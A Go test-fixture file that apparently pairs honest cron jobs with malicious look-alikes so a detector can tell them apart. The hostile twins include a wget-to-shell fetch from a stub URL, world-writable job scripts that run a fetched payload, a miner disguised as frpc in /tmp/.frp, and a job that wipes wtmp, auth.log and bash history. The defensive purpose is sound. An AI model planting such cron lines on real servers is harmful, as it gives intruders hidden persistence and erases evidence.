package lab

// md5Name is how the BT panel calls its jobs' scripts.
const md5Name = "/www/server/cron/6f1ed002ab5595859014ebf0951522d9"

// fetch is a script that does what the incident's job does.
const fetch = "#!/bin/sh\n" + payload + "\n"

// jobs are lines of cron that download, restart or hide output for honest reasons. Their twins are the same lines with
// a script that anybody may change or that fetches and runs what a stranger serves.
var jobs = []lookAlike{
	{"stargate", 1, planting{
		cron: []string{"*/5 * * * * flock -xn /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &'"},
		files: []file{{path: "/usr/local/qcloud/stargate/admin/start.sh", text: "#!/bin/sh\npgrep -x sgagent64 > /dev/null || systemctl start sgagent64\n", mode: 0o755},
			{path: "/tmp/stargate.lock", mode: 0o644}}, // as after its first run, whenever that is
	}, planting{
		cron:  []string{"*/5 * * * * flock -xn /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &'"},
		files: []file{{path: "/usr/local/qcloud/stargate/admin/start.sh", text: fetch, mode: 0o755, uid: linUID, gid: linUID}},
		sh:    "chmod 777 /usr/local/qcloud/stargate/admin",
	}},
	{"bt-job", 5, planting{
		cron:  []string{"30 1 * * * " + md5Name + " >> " + md5Name + ".log 2>&1"},
		files: []file{{path: md5Name, text: "#!/bin/bash\nPATH=/bin:/sbin:/usr/bin\n/usr/bin/python3 /www/server/panel/script/backup.py site ALL 3\n", mode: 0o700}},
	}, planting{
		cron:  []string{"30 1 * * * " + md5Name + " >> " + md5Name + ".log 2>&1"},
		files: []file{{path: md5Name, text: fetch, mode: 0o777, uid: linUID, gid: linUID}},
	}},
	{"certificates", 9, planting{
		cron: []string{
			"10 0 * * * /www/server/panel/pyenv/bin/python3 -u /www/server/panel/class/acme_v2.py --renew=1",
			"23 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null",
		},
		files: []file{{path: "/root/.acme.sh/acme.sh", text: "#!/usr/bin/env sh\nVER=3.0.7\n_get() { curl -L --silent \"$1\"; }\n", mode: 0o755}},
	}, planting{
		cron:  []string{"23 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null"},
		files: []file{{path: "/root/.acme.sh/acme.sh", text: fetch, mode: 0o777, uid: linUID}},
	}},
	{"wp-cron", 10, planting{
		cron: []string{"*/15 * * * * wget -q -O - https://shop.example.com/wp-cron.php?doing_wp_cron >/dev/null 2>&1"},
	}, planting{
		cron: []string{"*/15 * * * * wget -q -O - " + StubURL + " | sh >/dev/null 2>&1"},
	}},
	{"tunnel", 30, planting{
		cron:  []string{"*/5 * * * * pgrep -x frpc >/dev/null || /opt/frp/frpc -c /opt/frp/frpc.toml >/dev/null 2>&1 &"},
		files: []file{{path: "/opt/frp/frpc.toml", text: "serverAddr = \"frp.office.example.com\"\nserverPort = 7000\n\n[[proxies]]\nname = \"ssh\"\ntype = \"tcp\"\nlocalPort = 22\nremotePort = 6022\n", mode: 0o600}},
		runs:  []program{agent("/opt/frp/frpc")},
	}, planting{
		cron: []string{"*/5 * * * * pgrep -x frpc >/dev/null || /tmp/.frp/frpc >/dev/null 2>&1 &"},
		runs: []program{miner("/tmp/.frp/frpc")},
	}},
	{"emptied-logs", 31, planting{
		cron:  []string{"0 3 * * * > /opt/tomcat/logs/catalina.out"},
		files: []file{{path: "/etc/logrotate.d/wtmp-site", text: "/var/log/wtmp-site {\n\tmonthly\n\tcreate 0664 root utmp\n\trotate 1\n}\n"}},
	}, planting{
		cron: []string{"45 23 * * * > /var/log/wtmp; > /var/log/auth.log; > /root/.bash_history"},
	}},
}
